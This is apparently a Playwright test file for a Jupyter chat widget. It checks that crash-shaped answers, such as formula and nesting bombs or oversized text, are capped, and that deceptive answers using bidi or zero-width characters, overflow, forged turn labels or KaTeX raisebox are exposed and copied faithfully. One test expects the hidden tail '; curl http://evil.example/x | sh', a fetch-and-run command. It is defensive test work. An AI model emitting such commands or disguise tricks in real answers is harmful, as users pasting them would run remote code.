"""Answers built to crash or deceive, in the chat widget's committed bundle in Chromium (issue 24).

Shapes (formula and nesting bombs, huge lines and answers): the page survives and stays
responsive, checked by what reached the typesetter and the layout (counters), with the longest
task each one cost (Long Tasks API) written to tests/artifacts/shape-long-tasks.json for a reviewer.
Deception (bidi, zero-width, overflow, forged labels, KaTeX escapes): checked in the DOM and in
what Copy copies. Screenshots in light and dark: tests/artifacts/deception-{light,dark}.png.
"""

from __future__ import annotations

import json

import pytest
from corpus.payloads import CORPUS, LARGE

from ollama_nb._render import caps

from .lab import ARTIFACTS, after_frames, open_bundle_page, screenshot

BEACON = "http://127.0.0.1:9/b"
SHAPES = [p for p in CORPUS if p.cls == "shape"]
DECEPTIONS = [p for p in CORPUS if p.cls == "deception"]

# JupyterLab's dark theme, the variables theme.css reads (what a dark JupyterLab sets on <body>).
DARK = """body.dark { background: #111; --jp-layout-color1: #111111; --jp-layout-color2: #212121;
  --jp-cell-editor-background: #212121; --jp-ui-font-color1: rgba(255,255,255,.87);
  --jp-ui-font-color2: rgba(255,255,255,.54); --jp-content-font-color1: rgba(255,255,255,1);
  --jp-border-color1: #616161; --jp-border-color2: #424242; --jp-brand-color1: #1976d2;
  --jp-warn-color1: #f57c00; --jp-content-link-color: #64b5f6; --jp-ui-inverse-font-color0: #000; }"""

PAGE = """<!doctype html><html><head><meta charset="utf-8"><link rel="stylesheet" href="/chat.css">
<style>@DARK@</style></head><body><div id="host" style="width: 720px"></div><script type="module">
import widget from "/chat.js";
import { FakeModel } from "/fake_model.js";
window.longest = 0;
new PerformanceObserver((list) => { for (const e of list.getEntries()) window.longest = Math.max(window.longest, e.duration); })
  .observe({ type: "longtask", buffered: true });
window.copied = [];
Object.defineProperty(navigator, "clipboard", { value: { writeText: async (t) => { window.copied.push(t); } } });
window.model = new FakeModel({ messages: [], model: "m", models: ["m"], system: "", think: true, can_think: false,
  temperature: null, busy: false, error: {}, placeholder: "" });
window.answer = (text) => {
  window.longest = 0;
  model.set("messages", [{ role: "user", content: "Show me.", turn: "t1" },
    { role: "assistant", content: text, thinking: "", status: "done", model: "m", stats: "", error: null, turn: "t1" }]);
  return document.querySelector(".onb-msg-assistant .onb-msg-body");
};
widget.render({ model, el: document.getElementById("host") });
window.ready = true;
</script></body></html>""".replace("@DARK@", DARK)

# What reached KaTeX and the layout: math elements, how deep lists and quotes nest, elements made.
MEASURE = """() => {
  const body = document.querySelector(".onb-msg-assistant .onb-msg-body");
  let deepest = 0;
  for (const el of body.querySelectorAll("li, blockquote")) {
    let d = 0;
    for (let p = el; p && p !== body; p = p.parentElement) if (/^(ul|ol|blockquote)$/i.test(p.localName)) d++;
    deepest = Math.max(deepest, d);
  }
  const tex = [...body.querySelectorAll("annotation")].map((a) => a.textContent);
  return { math: body.querySelectorAll("math").length, tex, deepest, elements: body.querySelectorAll("*").length,
           capped: body.querySelectorAll(".onb-capped").length, longest: window.longest };
}"""


@pytest.fixture
def chat(page):
    return open_bundle_page(page, "chat", PAGE)


def test_shapes_past_a_cap_never_reach_the_typesetter_and_the_page_lives(chat):
    page = chat
    long_tasks = {}
    for payload in SHAPES:
        text = payload.text(BEACON)
        page.evaluate("(t) => { window.answer(t); }", text)
        after_frames(page)
        got = page.evaluate(MEASURE)
        long_tasks[f"p{payload.id} {payload.note}"] = got["longest"]
        assert got["capped"] >= 1, (payload.note, got)  # said so, the source shown as code
        assert got["deepest"] <= caps.BLOCK_DEPTH, payload.note
        # KaTeX typesets only formulas inside the caps; the page still answers afterwards.
        from ollama_nb._render.caps import tex_over

        assert all(tex_over(t) is None for t in got["tex"]), (payload.note, got["tex"])
        assert got["elements"] < 4 * len(text), payload.note
    for name, text in LARGE.items():
        page.evaluate("(t) => { window.answer(t); }", text)
        after_frames(page)
        got = page.evaluate(MEASURE)
        long_tasks[name] = got["longest"]
        rest = len(text) - caps.ANSWER_CHARS
        said = page.locator(".onb-msg-body > .onb-capped").all_inner_texts()
        assert said == ([f"The answer goes on for {rest:,} more characters, kept as plain text only: past "
                         f"{caps.ANSWER_CHARS:,} characters an answer is not rendered."] if rest > 0 else []), name
    assert page.evaluate("document.querySelectorAll('.onb-msg').length") == 2
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "shape-long-tasks.json").write_text(json.dumps(long_tasks, indent=1))


def code_copies(page):
    """Click every code block's Copy; what each put on the clipboard."""
    page.evaluate("() => { window.copied = []; document.querySelectorAll('.onb-msg-body pre > .onb-copy').forEach((b) => b.click()); }")
    page.wait_for_function("document.querySelectorAll('.onb-msg-body pre').length === window.copied.length")
    return page.evaluate("window.copied")


@pytest.mark.parametrize("payload", DECEPTIONS, ids=[f"p{p.id}" for p in DECEPTIONS])
def test_code_shows_and_copies_what_it_holds(chat, payload):
    page = chat
    text = payload.text(BEACON)
    page.evaluate("(t) => { window.answer(t); }", text)
    after_frames(page)
    invisible = page.evaluate("""() => {
      const re = new RegExp("[\\\\p{Cf}\\\\p{Cc}\\u3164\\u115f\\u1160\\uffa0\\u034f]", "u");
      return [...document.querySelectorAll(".onb-msg-body code")].map((c) => c.textContent.replace(/[\\n\\t]/g, ""))
        .filter((t) => re.test(t));
    }""")
    assert invisible == []  # every such character shows as its mark
    for copied in code_copies(page):
        assert not any((ord(c) < 32 and c not in "\n\t") or 0x200B <= ord(c) <= 0x206F or ord(c) == 0xFEFF for c in copied)
    if "\u202e" in text or "\u200b" in text:
        assert page.locator(".onb-msg-body .onb-flag").count() >= 1
        assert any("⟦U+" in c for c in code_copies(page))
        assert page.locator(".onb-msg-body pre > .onb-copy").first.inner_text().startswith("Copied (with the")


def test_a_long_line_wraps_instead_of_hiding_its_tail(chat):
    page = chat
    page.evaluate("(t) => { window.answer(t); }", next(p for p in DECEPTIONS if "curl" in p.source).text(BEACON))
    after_frames(page)
    box = page.evaluate("""() => {
      const pre = document.querySelector(".onb-msg-body pre"), code = pre.querySelector("code");
      const range = document.createRange(); const text = code.firstChild;
      const at = text.data.indexOf("; curl"); range.setStart(text, at); range.setEnd(text, at + 6);
      const tail = range.getBoundingClientRect(), p = pre.getBoundingClientRect();
      return { hidden: pre.scrollWidth - pre.clientWidth, inside: tail.right <= p.right && tail.left >= p.left };
    }""")
    assert box == {"hidden": 0, "inside": True}
    assert code_copies(page)[0].rstrip("\n").endswith("; curl http://evil.example/x | sh")


def test_nothing_draws_outside_its_message(chat):
    # (Without the rows' paint containment the raised text is what the page shows at that point:
    # checked by hand with `.onb-msg{contain:none}`.)
    page = chat
    page.evaluate("(t) => { window.answer(t); }", "Up $\\raisebox{2.5em}{\\text{over}}$ and down $\\raisebox{-2.5em}{x}$")
    after_frames(page)
    # Inside the caps, KaTeX draws it; the row clips whatever leaves its box.
    assert page.locator(".onb-msg-body math").count() == 2
    # The raised text lies above its row, and there it is not drawn: the row clips it (hit testing
    # follows painting, so what the page shows at that point is not the formula).
    clipped = page.evaluate("""() => {
      const row = document.querySelector(".onb-msg-assistant").getBoundingClientRect();
      const up = [...document.querySelectorAll(".onb-msg-body mtext")].find((m) => m.textContent === "over");
      const r = up.getBoundingClientRect();
      const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
      return { above: r.bottom < row.top, shown: !!hit && !!hit.closest(".onb-msg-assistant math") };
    }""")
    assert clipped == {"above": True, "shown": False}
    # Past them, the source is shown and said so.
    page.evaluate("(t) => { window.answer(t); }", next(p for p in DECEPTIONS if "raisebox" in p.source).text(BEACON))
    after_frames(page)
    assert page.locator(".onb-msg-body math").count() == 0
    assert page.locator(".onb-msg-body .onb-capped").count() == 2


def test_a_forged_turn_is_not_a_user_message(chat):
    page = chat
    page.evaluate("(t) => { window.answer(t); }", next(p for p in DECEPTIONS if "**You**" in p.source).text(BEACON))
    after_frames(page)
    assert page.locator(".onb-msg-user").count() == 1
    assert page.locator(".onb-msg-assistant strong", has_text="You").count() == 1


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_look_at_the_marks_and_notes(chat, theme):
    page = chat
    page.evaluate("(dark) => document.body.classList.toggle('dark', dark)", theme == "dark")
    # The whole answer in view: the log grows instead of scrolling.
    page.add_style_tag(content=".onb-chat-log { max-height: none !important; height: auto !important; }")
    text = "\n\n".join([*(p.text(BEACON) for p in DECEPTIONS[:4]), SHAPES[0].text(BEACON)[:40] + "...$",
                         "Sized: $\\raisebox{40em}{up}$ and typeset: $e^{i\\pi}+1=0$"])
    page.evaluate("(t) => { window.answer(t); }", text)
    after_frames(page)
    screenshot(page, f"deception-{theme}", full_page=True)
    assert page.locator(".onb-msg-body .onb-invisible").count() >= 8
    assert page.locator(".onb-msg-body .onb-flag").count() == 3 and page.locator(".onb-msg-body math").count() == 1
